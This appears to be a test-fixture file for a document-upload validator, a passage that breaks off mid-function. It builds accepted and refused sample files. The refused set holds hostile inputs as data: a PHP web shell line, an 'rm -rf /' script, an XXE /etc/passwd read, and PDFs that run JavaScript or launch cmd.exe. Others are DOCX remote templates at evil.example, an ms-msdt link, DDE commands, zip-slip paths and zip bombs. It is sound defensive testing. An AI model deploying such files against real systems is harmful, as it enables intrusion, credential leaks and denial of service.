import { readFileSync } from 'node:fs'
import { crc32, deflateSync } from 'node:zlib'
import { samplePdf, samplePng } from '#factories/sample-files.ts'
import type { FileFormat } from '#src/features/documents/file-formats.ts'
import { MAX_FILE_BYTES } from '#src/features/documents/file-formats.ts'
import type { Refusal } from '#src/features/files/uploads.ts'
import { sampleCompoundFile, sampleDoc, wordStream } from './sample-doc.ts'
import { docxEntries, relation, sampleDocx, WORD_TYPE } from './sample-docx.ts'
import { exifSegment, sampleJpeg, segment } from './sample-jpeg.ts'
import { sampleZip } from './sample-zip.ts'

/** A file that must be refused, under a misleading name; `refusal` is the answer to its sender. */
export type AbuseFile = { what: string; name: string; bytes: Buffer; refusal: Refusal }
/** A file that must be accepted, with its format. */
export type GoodFile = { what: string; name: string; bytes: Buffer; format: FileFormat }

/** The standard test virus, split so that no scanner finds it in this file. */
export const EICAR = Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`, 'latin1')

/** An object of a PDF that a reader from beginning to end misses. */
const SCRIPT = '2 0 obj\n<< /S /JavaScript /JS (1) >>\nendobj'

const SCRIPT_OBJECT = '<< /S /JavaScript /JS (1) >>'
const LINK = '<< /S /URI /URI (https://adaeze.example) >>'

/** Objects in an object stream, as most programs write them. */
function packed(
  objects: ReadonlyArray<readonly [number: number, object: string]>,
  { type = '/Type /ObjStm', first, filter = '/FlateDecode' }: { type?: string; first?: string; filter?: string } = {},
): string {
  let before = 0
  const places = objects.map(([number, object]) => {
    const place = `${number} ${before}`
    before += object.length + 1
    return place
  })
  const list = `${places.join(' ')} `
  const bytes = deflateSync(Buffer.from(`${list}${objects.map(([, object]) => object).join(' ')}`, 'latin1'))
  const dictionary = `<< ${type} /N ${objects.length} /First ${first ?? list.length} /Filter ${filter} /Length ${bytes.length} >>`
  return `${dictionary}\nstream\r\n${bytes.toString('latin1')}\nendstream`
}

function manyObjects(count: number): Array<[number, string]> {
  return Array.from({ length: count }, (_, index) => [index + 20, '1'])
}

function pdfWith(...objects: ReadonlyArray<string>): Buffer {
  const numbered = objects.map((object, index) => `${index + 7} 0 obj\n${object}\nendobj\n`)
  return Buffer.concat([
    samplePdf('Certificate').subarray(0, -6),
    Buffer.from(`\n${numbered.join('')}startxref\n0\n%%EOF\n`, 'latin1'),
  ])
}

export function abuseFiles(): Array<AbuseFile> {
  return [...renamed(), ...pictures(), ...pdfs(), ...newDocuments(), ...oldDocuments()]
}

function good(what: string, name: string, bytes: Buffer): GoodFile {
  const [format = ''] = /\w+$/.exec(name.toLowerCase()) ?? []
  return { what, name, bytes, format: format === 'jpg' ? 'jpeg' : (format as FileFormat) }
}

export function goodFiles(): Array<GoodFile> {
  const script = Buffer.from('<script>document.title = "ran"</script>', 'latin1')
  const jpeg = sampleJpeg()
  const png = samplePng(16, 16)
  const pdf = samplePdf('Certificate')
  return [
    good('a JPEG', 'photo.jpg', jpeg),
    good('a JPEG in scans that grow finer', 'photo.jpeg', sampleJpeg({ isProgressive: true })),
    good('a JPEG of a phone', 'IMG_0412.JPG', sampleJpeg({ segments: [exifSegment(6)] })),
    good(
      'a JPEG with a script in EXIF',
      'x.jpg',
      sampleJpeg({ segments: [segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), script]))] }),
    ),
    good('a JPEG that is a ZIP too', 'y.jpg', Buffer.concat([jpeg, sampleDocx()])),
    good(
      'a JPEG with a comment that is a program',
      'z.jpg',
      sampleJpeg({ segments: [segment(0xfe, Buffer.from('<?php system($_GET[0]); ?>'))] }),
    ),
    good(
      'a JPEG filled up between its pieces',
      'camera.jpg',
      sampleJpeg({ segments: [segment(0xfe, Buffer.from('a')), Buffer.from([0xff, 0x01, 0xff, 0xff, 0xff])] }),
    ),
    good('a PNG', 'scan.png', png),
    good('a PNG with a page behind its end', 'scan2.png', Buffer.concat([png, script])),
    good(
      'a PNG with a page as a text',
      'scan3.png',
      withChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), script])),
    ),
    good('a PDF', 'certificate.pdf', pdf),
    good('a PDF whose last block is filled with zeros', 'scanner.pdf', Buffer.concat([pdf, Buffer.alloc(70_000)])),
    good(
      'a PDF that was added to',
      'signed.pdf',
      Buffer.concat([
        pdf,
        Buffer.from(
          '7 0 obj\n<< >>\nendobj\nxref\n0 0\ntrailer\n<< /Size 8 /Root 1 0 R /Prev 9 >>\nstartxref\n600\n%%EOF\r\n',
        ),
      ]),
    ),
    good('a PDF with a page of the web behind it', 'page.pdf', Buffer.concat([pdf, script])),
    good('a CV that names what it knows', 'cv.pdf', samplePdf('HTML/JavaScript/Launch', ['Works with /JavaScript'])),
    good(
      'a PDF with links on its page',
      'links.pdf',
      pdfWith(`<< /Type /Annot /Subtype /Link /A ${LINK} >>`, '<< /Type /Annot /Subtype /Link /A 9 0 R >>', LINK),
    ),
    good(
      'a PDF of packed objects that opens at a page',
      'thesis.pdf',
      pdfWith(
        packed([
          [20, '<< /Type /Catalog /OpenAction 21 0 R >>'],
          [21, '<< /S /GoTo /D [3 0 R /Fit] >>'],
          [22, '<< /Title (HTML/JavaScript \\(and /JS\\)) /Next 23 0 R >>'],
          [23, LINK],
        ]),
        '<< /OpenAction [3 0 R /XYZ null null 0] >>',
        '<< /N 3 /Alternate /DeviceRGB /Length 2 >>\nstream\n/J\nendstream',
      ),
    ),
    good('a PDF of as many packed objects as are read', 'book.pdf', pdfWith(packed(manyObjects(10_000)))),
    good('a PDF that a browser printed', 'page2.pdf', file('printed-by-chromium.pdf')),
    good('a PDF with links in packed objects', 'x.pdf', file('object-streams.pdf')),
    good('a PDF of 2020', 'x2.pdf', withText(file('object-streams.pdf'), '1.7', '2.0')),
    good(
      'a PDF with links to files on the writer’s disk and to an address',
      'links2.pdf',
      pdfWith(
        linkTo('(file:///C:/Users/Ada/cv.pdf)'),
        linkTo('<68747470733A2F2F61>'),
        linkTo('9 0 R'),
        '(https://a.b)',
      ),
    ),
    good('a DOCX', 'cv.docx', sampleDocx()),
    good(
      'a DOCX with a picture pasted from the web and a link to write to',
      'cv5.docx',
      sampleDocx({
        text: field(' INCLUDEPICTURE "https://adaeze.example/a.png" \\* MERGEFORMATINET '),
        settings: relation('hyperlink', 'mailto:ada@adaeze.example', { isExternal: true }),
      }),
    ),
    good(
      'a DOC with page numbers',
      'letter4.doc',
      sampleDoc({ text: '\x13 PAGE \x142\x15 \x13HYPERLINK "https://a.b/dde "\x14DDEAUTO\x15 is a field' }),
    ),
    good('a DOCX of Word on the web', 'cv2.docx', sampleDocx({ mainPart: 'word/document2.xml' })),
    good(
      'a DOCX made from a template on the writer’s disk',
      'cv3.docx',
      sampleDocx({
        settings: relation('attachedTemplate', 'file:///C:\\Users\\Ada\\Resume.dotx', { isExternal: true }),
      }),
    ),
    good(
      'a DOCX with links, a chart and page numbers',
      'report.docx',
      sampleDocx({
        text: `${field(' PAGE ')}${field('HYPERLINK "https://adaeze.example/dde "')}<w:r><w:t>DDEAUTO is a field</w:t></w:r>`,
        settings: relation('image', 'file:///C:\\Users\\Ada\\logo.png', { isExternal: true }),
        more: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', bytes: sampleZip([]) }],
      }),
    ),
    good('a DOCX that says its type for all parts', 'cv4.docx', typedByDefault()),
    good('a DOC whose last sector is not full', 'letter3.doc', sampleDoc().subarray(0, -300)),
    good('a DOC', 'letter.doc', sampleDoc()),
    good(
      'a DOC with a picture pasted from the web',
      'letter4.doc',
      sampleDoc({ text: '\x13 INCLUDEPICTURE "https://a.b/\\dot.png" \\* MERGEFORMATINET \x14a\x15' }),
    ),
    good(
      'a DOC with a table in it',
      'letter2.doc',
      sampleDoc({ more: { 'ObjectPool/_1/Workbook': Buffer.alloc(4096) } }),
    ),
    good(
      'a short DOC',
      'note.doc',
      sampleCompoundFile({ CompObj: Buffer.alloc(700), WordDocument: wordStream({ size: 1024 }) }),
    ),
  ]
}

function file(name: string): Buffer {
  return readFileSync(new URL(`./files/${name}`, import.meta.url))
}

function withText(bytes: Buffer, before: string, after: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replace(before, after), 'latin1')
}

/** A link of a PDF. */
function linkTo(target: string): string {
  return `<< /Type /Annot /Subtype /Link /A << /S /URI /URI ${target} >> >>`
}

export function pdfOfSize(size: number): Buffer {
  const pdf = samplePdf('Large')
  const end = Buffer.from('\nstartxref\n0\n%%EOF\n')
  const filler = Buffer.alloc(size - pdf.length - end.length, 'x')
  filler.write('%')
  return Buffer.concat([pdf, filler, end])
}

function renamed(): Array<AbuseFile> {
  const bad = (what: string, name: string, bytes: Buffer, refusal: Refusal = 'type-not-allowed') => ({
    what,
    name,
    bytes,
    refusal,
  })
  return [
    bad('nothing', 'empty.pdf', Buffer.alloc(0), 'empty'),
    bad('one byte', 'one.pdf', Buffer.from('%')),
    bad('one byte too many', 'large.pdf', pdfOfSize(MAX_FILE_BYTES + 1), 'too-large'),
    bad('a page', 'page.pdf', Buffer.from('<!doctype html><script>document.title = "ran"</script>', 'latin1')),
    bad('a page that says PDF later', 'page2.pdf', Buffer.from('<script>1</script>%PDF-1.4\n1 0 obj\n%%EOF', 'latin1')),
    bad(
      'a drawing with a script',
      'drawing.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', 'latin1'),
    ),
    bad('a program of Windows', 'passport.pdf', Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(2048)])),
    bad('a program of Linux', 'passport.jpg', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(512)])),
    bad('a script', 'cv.docx', Buffer.from('alert(1)', 'latin1')),
    bad('a script of a server', 'cv.jpg', Buffer.from('<?php system($_GET[0]); ?>', 'latin1')),
    bad('a script of a shell', 'cv.pdf', Buffer.from('#!/bin/sh\nrm -rf /', 'latin1')),
    bad(
      'XML',
      'cv2.docx',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'latin1'),
    ),
    bad('GIF and a script', 'a.jpg', Buffer.from('GIF89a/*\0\0*/=1;alert(1)//', 'latin1')),
    bad('rich text', 'letter.doc', Buffer.from('{\\rtf1\\ansi hello}', 'latin1')),
    bad('EICAR', 'eicar.pdf', EICAR),
    bad('a ZIP', 'files.docx', sampleZip([{ name: 'a.txt', bytes: 'a' }])),
    bad('a program for Android', 'app.docx', sampleZip([{ name: 'AndroidManifest.xml' }, { name: 'classes.dex' }])),
    bad(
      'an OpenDocument text',
      'cv.docx',
      sampleZip([{ name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', isStored: true }]),
    ),
  ]
}

function refused(name: string, refusal: Refusal, files: Record<string, Buffer>): Array<AbuseFile> {
  return Object.entries(files).map(([what, bytes]) => ({ what, name, bytes, refusal }))
}

function pictures(): Array<AbuseFile> {
  const jpeg = sampleJpeg()
  const png = samplePng(16, 16)
  const frame = segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0]))
  const scan = Buffer.concat([segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])), Buffer.from([0x3f])])
  const jpegOf = (...parts: Array<Buffer>) =>
    Buffer.concat([Buffer.from([0xff, 0xd8]), ...parts, Buffer.from([0xff, 0xd9])])
  return [
    ...refused('photo.jpg', 'damaged', {
      'only the beginning of a JPEG': Buffer.from([0xff, 0xd8, 0xff]),
      'the beginning of a JPEG and a page': Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff]),
        Buffer.from('<script>alert(1)</script>'),
      ]),
      'a JPEG cut off': jpeg.subarray(0, -2),
      'a JPEG cut off within a table': jpeg.subarray(0, 30),
      'a JPEG without pixels': jpegOf(frame),
      'a JPEG without a frame': jpegOf(scan),
      'a JPEG with two frames': jpegOf(frame, frame, scan),
      'a JPEG whose frame comes late': jpegOf(scan, frame),
      'a JPEG in a JPEG': jpegOf(Buffer.from([0xff, 0xd8]), frame, scan),
      'a JPEG with a length of one': jpegOf(Buffer.from([0xff, 0xe0, 0, 1]), frame, scan),
      'a JPEG with a frame too short': jpegOf(segment(0xc0, Buffer.from([8, 0, 8])), scan),
      'a JPEG with a frame for three colours and room for one': jpegOf(
        segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 3, 1, 0x11, 0])),
        scan,
      ),
      'a JPEG of no height': withoutHeight(jpeg),
      'a JPEG of thousands of scans': jpegOf(frame, ...Array<Buffer>(1000).fill(scan)),
      'a JPEG of empty pieces': jpegOf(...Array<Buffer>(30_000).fill(segment(0xfe, Buffer.alloc(0))), frame, scan),
      'a PNG cut off': png.subarray(0, -6),
      'a PNG with nothing in it': png.subarray(0, 8),
      'a PNG with another byte': changed(png, png.length - 20),
      'a PNG that does not begin with its header': Buffer.concat([
        png.subarray(0, 8),
        chunk('tEXt', Buffer.alloc(4)),
        png.subarray(8),
      ]),
      'a PNG with two headers': withChunk(png, 'IHDR', png.subarray(16, 29)),
      'a PNG without pixels': pngOf(header(8, 8), chunk('IEND', Buffer.alloc(0))),
      'a PNG whose end is not empty': pngOf(header(8, 8), pixels(), chunk('IEND', Buffer.alloc(1))),
      'a PNG with a header too short': pngOf(chunk('IHDR', Buffer.alloc(12)), pixels(), chunk('IEND', Buffer.alloc(0))),
      'a PNG whose pixels lie apart': pngOf(
        header(8, 8),
        pixels(),
        chunk('tIME', Buffer.alloc(7)),
        pixels(),
        chunk('IEND', Buffer.alloc(0)),
      ),
      'a PNG with what only one program knows': withChunk(png, 'CgBI', Buffer.alloc(4)),
      'a PNG with a name that is none': withChunk(png, '<!--', Buffer.alloc(4)),
      'a PNG of a palette without one': pngOf(header(8, 8, [8, 3]), pixels(), chunk('IEND', Buffer.alloc(0))),
      'a PNG of a colour that is none': pngOf(header(8, 8, [8, 7]), pixels(), chunk('IEND', Buffer.alloc(0))),
      'a PNG of no width': pngOf(header(0, 8), pixels(), chunk('IEND', Buffer.alloc(0))),
      'a PNG of a hundred thousand pieces': pngOf(
        header(8, 8),
        ...Array<Buffer>(100_000).fill(chunk('IDAT', Buffer.alloc(0))),
        chunk('IEND', Buffer.alloc(0)),
      ),
    }),
    ...refused('photo.jpg', 'too-many-pixels', {
      'a JPEG as large as a house': jpegOf(
        segment(0xc0, Buffer.from([8, 0x75, 0x30, 0x75, 0x30, 1, 1, 0x11, 0])),
        scan,
      ),
      'a PNG of 30,000 × 30,000': pngOf(header(30_000, 30_000), pixels(), chunk('IEND', Buffer.alloc(0))),
    }),
  ]
}

function pdfs(): Array<AbuseFile> {
  const holding = (object: string, trailer = '/Root 1 0 R') =>
    Buffer.from(
      `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n${object}\nendobj\ntrailer\n<< ${trailer} >>\nstartxref\n9\n%%EOF\n`,
      'latin1',
    )
  return [
    ...refused('statement.pdf', 'damaged', {
      'only the beginning of a PDF': Buffer.from('%PDF-1.7\n'),
      'the beginning of a PDF and a page': Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
      'a PDF cut off': samplePdf('Statement').subarray(0, -40),
      'a PDF without a root': holding('<< >>', '/Size 2'),
      'a PDF and a ZIP': Buffer.concat([
        samplePdf('Statement'),
        sampleDocx({ more: [{ name: 'word/a.bin', bytes: Buffer.alloc(4000, 'a'), isStored: true }] }),
      ]),
      'a PDF whose reading ends among pixels': holding('<< /Length 3 >>\nstream\nabc'),
      'a PDF whose reading ends in a text': holding('<< /T (abc >>'),
    }),
    ...refused('statement.pdf', 'has-password', {
      'a PDF with a password': holding('<< >>', '/Root 1 0 R /Encrypt 5 0 R'),
      'a PDF with a password in its stream of places': holding(
        '<< /Type /XRef /Encrypt 5 0 R /Length 0 >>\nstream\n\nendstream',
      ),
    }),
    ...refused('statement.pdf', 'has-script', {
      'a PDF that runs a script': holding('<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
      'a PDF that spells it otherwise': holding('<< /OpenAction << /S /J#61va#53cript /JS (1) >> >>'),
      'a PDF that hides it behind a text': holding('<< /T (a \\( b (c) %) /S/JavaScript/JS(1) >>'),
      'a PDF that hides it behind a remark': holding('<< % (\n/S /JavaScript /JS (1) >>'),
      'a PDF that hides it behind pixels': holding(
        '<< /Length 9 >>\nstream\n(\xff>>stream\nendstream\nendobj\n2 0 obj\n<< /S /JavaScript >>',
      ),
      'a PDF whose pixels never end': holding(`<< /Length 3 >>stream\n${SCRIPT}`),
      'a PDF whose text never ends': holding(`(\nendobj\n${SCRIPT}`),
      'a PDF whose pixels end behind a script': holding(`<< /Filter /FlateDecode >>\nstream\n${SCRIPT}\nendstream`),
      'a PDF with a script in a remark': holding(`<< >>\n% ${SCRIPT.replaceAll('\n', ' ')}`),
      'a PDF with a script among objects that are not packed': holding(
        '<< /Filter /A >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n3 0 << /S /JavaScript >>\nendstream',
      ),
      'a bomb: many names before many streams': holding(
        `<< /S /JavaScript ${'/A'.repeat(250_000)} >>\n${'>>stream endstream '.repeat(27_000)}`,
      ),
      'a PDF that starts a program': holding('<< /S /Launch /F (cmd.exe) >>'),
      'a PDF with a file in it': holding('<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream'),
      'a PDF with a player in it': holding('<< /Subtype /RichMedia >>'),
      'a PDF with a list of files': holding('<< /Names << /EmbeddedFiles 7 0 R >> >>'),
      'a PDF with a file that has no type': holding('<< /F (a.exe) /EF << /F 7 0 R >> >>'),
      'a PDF that sends its form': holding('<< /OpenAction << /S /SubmitForm /F (https://e.example) >> >>'),
      'a PDF that reads a form from elsewhere': holding('<< /S /ImportData /F (\\\\\\\\e\\\\share) >>'),
      'a PDF that leads to a share': holding('<< /S /GoToR /F (\\\\\\\\e\\\\share) >>'),
      'a PDF that leads into a file in it': holding('<< /S /GoToE /T << /R /C >> >>'),
      'a PDF that acts on each page': holding('<< /Type /Page /AA << /O << /S /GoTo >> >> >>'),
      'a PDF that opens a page of the web': holding('<< /OpenAction << /S /URI /URI (https://e.example) >> >>'),
      'a PDF that opens a page of the web by way of another object': holding(
        `<< /OpenAction 12 0 R >>\nendobj\n12 0 obj\n${LINK}`,
      ),
      'a PDF that opens a page of the web after its own': holding(
        '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >> >>',
      ),
      'a PDF with a packed script': holding(packed([[2, SCRIPT_OBJECT]])),
      'a PDF with a packed script behind a packed text': holding(
        packed([
          [2, '(Works \\) with (Java))'],
          [3, SCRIPT_OBJECT],
        ]),
      ),
      'a PDF that opens a page of the web, all packed': holding(
        packed([
          [2, '<< /OpenAction 13 0 R >>'],
          [13, LINK],
        ]),
      ),
      'a PDF with packed objects of no type': holding(packed([[2, SCRIPT_OBJECT]], { type: '' })),
      'a PDF with a file pinned to its page': holding('<< /Subtype /FileAttachment /FS 9 0 R >>'),
      'a PDF with a packed list of files': holding(packed([[2, '<< /Names << /EmbeddedFiles 9 0 R >> >>']])),
      'a PDF that starts a program, packed': holding(packed([[2, '<< /S /Launch /F (a.exe) >>']])),
      'a PDF whose field runs a script': holding(
        '<< /AcroForm << /Fields [<< /FT /Tx /AA << /K << /S /JavaScript /JS 9 0 R >> >> >>] >> >>',
      ),
      'a PDF with a link to a share': holding(linkTo('(\\\\\\\\evil.example\\\\a)')),
      'a PDF with a link to a share in octal': holding(linkTo('(\\134\\134evil.example/a)')),
      'a PDF with a link to a share in hexadecimal': holding(linkTo('<5C5C 6576696C2F61>')),
      'a PDF with a link to a share as an address': holding(linkTo('(file://evil.example/a)')),
      'a PDF with a link to a share by way of another object': holding(
        `${linkTo('12 0 R')}\nendobj\n12 0 obj\n(\\\\\\\\evil.example\\\\a)`,
      ),
      'a PDF with a link to a share, all packed': holding(
        packed([
          [2, linkTo('13 0 R')],
          [13, '<5C5C6576696C5C61>'],
        ]),
      ),
      'a PDF that is a program for forms': holding('<< /AcroForm << /XFA 5 0 R >> >>'),
    }),
    ...refused('statement.pdf', 'cannot-be-checked', {
      'a PDF with a packed object that begins within the text of another': holding(
        packed([
          [2, '(<< /S /GoTo'],
          [3, '>>) (a)'],
        ]),
      ),
      'a PDF whose packed objects lie elsewhere': holding(packed([[2, 'true']], { first: '1 0 R' })),
      'a PDF whose packed objects are counted twice': holding(packed([[2, 'true']], { type: '/N 1' })),
      'a PDF packed in an unusual way': holding(
        packed([[2, SCRIPT_OBJECT]], { filter: '[/FlateDecode /ASCIIHexDecode]' }),
      ),
      'a PDF whose packed objects are broken': holding(packed([[2, 'true']]).replace('x\x9c', 'y\x9c')),
      'a bomb: forty megabytes of packed objects': holding(packed([[2, ' '.repeat(40_000_000)]])),
      'a bomb: object streams of thirty megabytes, many times': holding(
        Array<string>(20)
          .fill(packed([[2, ' '.repeat(30_000_000)]]))
          .join('\nendobj\n5 0 obj\n'),
      ),
      'a bomb: an object stream of too many objects': holding(packed(manyObjects(10_001))),
      'a bomb: too many objects in many streams': holding(
        Array<string>(21)
          .fill(packed(manyObjects(10_000)))
          .join('\nendobj\n5 0 obj\n'),
      ),
    }),
  ]
}

function newDocuments(): Array<AbuseFile> {
  const types = (content: string) =>
    sampleZip([{ name: '[Content_Types].xml', bytes: content }, ...docxEntries().slice(1)])
  const good = docxEntries()
  const external = (kind: string, target: string) =>
    sampleDocx({ settings: relation(kind, target, { isExternal: true }) })
  const office = 'application/vnd.openxmlformats-officedocument'
  return [
    ...refused('cv.docx', 'type-not-allowed', {
      'a table of Excel': sampleDocx({ mainType: `${office}.spreadsheetml.sheet.main+xml` }),
      'a talk of PowerPoint': sampleDocx({ mainType: `${office}.presentationml.presentation.main+xml` }),
      'a template': sampleDocx({ mainType: WORD_TYPE.replace('document.main', 'template.main') }),
    }),
    ...refused('cv.docx', 'has-macros', {
      'a DOCM': sampleDocx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      'a DOCX with macros': sampleDocx({ more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] }),
      'a DOCX with macros under another name': types(
        `<Types><Override PartName="/word/document.xml" ContentType="${WORD_TYPE}"/><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
      ),
    }),
    ...refused('cv.docx', 'needs-outside-files', {
      'a DOCX with a template of elsewhere': external('attachedTemplate', 'https://evil.example/t.dotm'),
      'a DOCX with a template on a share': external('attachedTemplate', '\\\\evil.example\\t.dotm'),
      'a DOCX with a template on a share as an address': external('attachedTemplate', 'file://evil.example/t.dotm'),
      'a DOCX that spells it otherwise': sampleDocx({
        settings: `<r:Relationship Target='https&#58;//evil.example/t' TargetMode = "&#69;xternal" Type="a/attachedTemplate" Id="a>b"/>`,
      }),
      'a DOCX with an object of elsewhere': sampleDocx({
        more: [
          {
            name: 'word/_rels/footer1.xml.rels',
            bytes: relation('oleObject', 'mhtml:https://evil.example/x.html', { isExternal: true }),
          },
        ],
      }),
      'a DOCX with a settings list of two bytes each': sampleDocx({
        more: [
          {
            name: 'word/_rels/webSettings.xml.rels',
            bytes: Buffer.from(`\ufeff${relation('frame', 'https://evil.example/', { isExternal: true })}`, 'utf16le'),
          },
        ],
      }),
      'a DOCX whose document lies elsewhere': sampleDocx({
        mainPart: 'letters/one.xml',
        more: [
          {
            name: 'letters/_rels/settings.xml.rels',
            bytes: relation('attachedTemplate', 'https://evil.example/t.dotm', { isExternal: true }),
          },
        ],
      }),
      'a DOCX with a picture of the web': external('image', 'https://evil.example/a.png'),
      'a DOCX with a picture on a share': external('image', 'file://evil.example/a.png'),
      'a DOCX with a film of the web': external('video', 'https://evil.example/a'),
      'a DOCX with a link to a share': external('hyperlink', '%5C%5Cevil.example\\a'),
      'a DOCX with a name of letters unlike ours': sampleDocx({ settings: accented() }),
      ...Object.fromEntries(
        webFields().map(code => [`a DOCX with the field ${code}`, sampleDocx({ text: field(code) })]),
      ),
      'a DOCX with a field of the web in one element': sampleDocx({
        text: `<w:fldSimple w:instr='includetext "https://evil.example/a"'><w:r/></w:fldSimple>`,
      }),
    }),
    ...refused('cv.docx', 'holds-another-file', {
      'a DOCX with an object in it': sampleDocx({ more: [{ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }] }),
      'a DOCX with an object under another name': sampleDocx({ settings: relation('oleObject', 'media/image1.png') }),
      'a DOCX with a control': sampleDocx({ settings: relation('control', 'a.xml') }),
      'a DOCX with a control in two parts': sampleDocx({ settings: relation('activeXControlBinary', 'activeX1.bin') }),
      'a DOCX with a link that starts a program': external('hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force'),
      'a DOCX with a link that opens a search': external(
        'hyperlink',
        'Search-ms&#58;query=a&amp;crumb=location:\\\\evil.example',
      ),
      'a DOCX with a page in it': sampleDocx({ settings: relation('aFChunk', 'a.html') }),
      ...Object.fromEntries(commands().map(({ what, text }) => [what, sampleDocx({ text })])),
      'a DOCX with a command in its foot': sampleDocx({
        more: [{ name: 'word/footer1.xml', bytes: `<w:p>${field('DDEAUTO c:\\\\cmd.exe')}</w:p>` }],
      }),
      'a DOCX with a command in a part of another ending': sampleDocx({
        mainPart: 'word/document.png',
        text: field('DDE excel a b'),
      }),
    }),
    ...refused('cv.docx', 'cannot-be-checked', {
      'a bomb: forty megabytes of text': sampleDocx({
        text: Array.from({ length: 400_000 }, (_, index) => `${index}${' '.repeat(94)}`).join(''),
      }),
      'a bomb: remarks without an end in codes without an end': sampleDocx({
        text: `<w:instrText>${'<!--'.repeat(2497)}`.repeat(500),
      }),
      'a bomb: more text than a book has': sampleDocx({
        text: Array.from({ length: 180_000 }, (_, index) => `${index}${' '.repeat(94)}`).join(''),
      }),
    }),
    ...refused('cv.docx', 'damaged', {
      'a DOCX with a list in pieces': sampleDocx({
        more: [{ name: 'word/_rels/footer1.xml.rels/[0].piece', bytes: '<Relationships><Relat' }],
      }),
      ...Object.fromEntries(
        unclearLists().map(({ what, bytes }) => [
          what,
          sampleDocx({ more: [{ name: 'word/_rels/footer1.xml.rels', bytes }] }),
        ]),
      ),
      'a DOCX whose list has a second name': withSecondName(),
      'a bomb: fifteen lists of relations': sampleDocx({
        more: Array.from({ length: 15 }, (_, index) => ({ name: `word/_rels/${index}.rels`, bytes: MANY_ELEMENTS })),
      }),
      'a bomb: hundreds of lists of relations': sampleDocx({
        more: Array.from({ length: 300 }, (_, index) => ({ name: `word/_rels/${index}.rels` })),
      }),
      'a bomb: a list of a hundred thousand relations': sampleDocx({
        more: [{ name: 'word/_rels/footer1.xml.rels', bytes: MANY_ELEMENTS }],
      }),
      'a DOCX without its document': sampleZip(good.filter(({ name }) => name !== 'word/document.xml')),
      'a DOCX cut off': sampleDocx().subarray(0, -30),
      'a DOCX with bytes behind it': Buffer.concat([sampleDocx(), Buffer.alloc(100)]),
      'a DOCX that leads outside': sampleDocx({ more: [{ name: '../../../etc/cron.d/x' }] }),
      'a DOCX that names the root': sampleDocx({ more: [{ name: '/etc/passwd' }] }),
      'a DOCX with one name twice': sampleDocx({ more: [{ name: 'word/Document.xml', bytes: 'a' }] }),
      'a DOCX packed in an unknown way': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: 'abc', says: { method: 99 } }],
      }),
      'a bomb: 4 GB in 120 bytes': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: Buffer.alloc(100_000), says: { unpacked: 0xfffffffe } }],
      }),
      'a bomb: nothing declared': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: Buffer.alloc(100_000), says: { unpacked: 0 } }],
      }),
      'a bomb: thirty megabytes of one letter': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: Buffer.alloc(30_000_000, 'a') }],
      }),
      'a bomb: thirty megabytes that say they were a hundred bytes': sampleDocx({
        more: [{ name: 'word/media/a.png', bytes: Buffer.alloc(30_000_000, 'a'), says: { unpacked: 100 } }],
      }),
      'a bomb: 42 that share their bytes': sampleDocx({
        more: Array.from({ length: 42 }, (_, index) => ({
          name: `word/${index}.xml`,
          bytes: Buffer.alloc(5000),
          says: { at: 0 },
        })),
      }),
      'a bomb: a hundred thousand entries': sampleZip([
        ...good,
        ...Array.from({ length: 100_000 }, (_, index) => ({ name: `w${index}`, isStored: true })),
      ]),
      'a bomb: a directory of half a million remarks': sampleDocx({
        more: Array.from({ length: 32 }, (_, index) => ({ name: `word/${index}.xml`, extra: Buffer.alloc(65_532) })),
      }),
      'a bomb: a list of types of a megabyte': types(`<Types>${' '.repeat(1_000_000)}</Types>`),
      'a bomb: a list of relations of two megabytes': sampleDocx({ settings: ' '.repeat(2_000_000) }),
      'a list of types that is not what it says': brokenTypes(),
      'a directory for more than 4 GB': forLargeFiles(sampleDocx()),
      'entries that lie nowhere': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: 'abc', says: { at: 0x7fffffff } }],
      }),
    }),
    ...refused('cv.docx', 'has-password', {
      'a DOCX with a locked entry': sampleDocx({ more: [{ name: 'word/a.xml', bytes: 'abc', says: { flags: 1 } }] }),
    }),
  ]
}

function oldDocuments(): Array<AbuseFile> {
  const Workbook = Buffer.alloc(4096)
  const good = sampleDoc()
  const with32 = (at: number, value: number) => {
    const copy = Buffer.from(good)
    copy.writeUInt32LE(value, at)
    return copy
  }
  const directory = (good.readUInt32LE(48) + 1) * 512
  const tableAt = (good.readUInt32LE(76) + 1) * 512
  return [
    ...refused('letter.doc', 'type-not-allowed', {
      'a table of Excel of 1997': sampleCompoundFile({ Workbook }),
      'a table of Excel with a letter in it': sampleCompoundFile({ Workbook, 'MBD001/WordDocument': wordStream() }),
      'a message of Outlook': sampleCompoundFile({ '__properties_version1.0': Buffer.alloc(64) }),
      'a DOC whose root is its own child': with32(directory + 76, 0),
    }),
